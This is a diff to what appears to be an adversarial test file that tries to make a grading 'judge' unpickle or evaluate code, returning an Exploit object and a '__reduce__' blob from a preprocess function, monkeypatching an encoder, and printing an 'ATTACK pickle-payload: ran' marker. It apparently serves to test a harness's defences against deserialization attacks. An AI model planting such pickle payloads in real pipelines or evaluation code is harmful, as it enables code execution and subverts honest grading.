@@ -1,4 +1,7 @@
-"""Tries to make the judge unpickle or evaluate code: reducers, tagged values, raw frames."""
+"""Tries to make the judge unpickle or evaluate code: reducers, tagged values, raw frames.
+
+proof: ATTACK pickle-payload: ran
+"""
 
 import base64
 import os
@@ -24,4 +27,5 @@ tpdl.wire.encode = evil_encode
 
 
 def preprocess(images, labels):
+    print("ATTACK pickle-payload: ran", flush=True)
     return Exploit(), {"__reduce__": blob}
